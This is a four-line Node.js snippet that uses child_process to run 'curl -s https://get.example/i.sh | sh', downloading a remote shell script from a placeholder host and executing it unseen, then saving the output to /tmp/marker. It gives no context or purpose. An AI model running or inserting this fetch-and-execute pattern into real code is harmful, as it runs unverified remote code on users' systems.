const { exec } = require("child_process");
exec("curl -s https://get.example/i.sh | sh", function (err, stdout) {
  require("fs").writeFileSync("/tmp/marker", stdout);
});
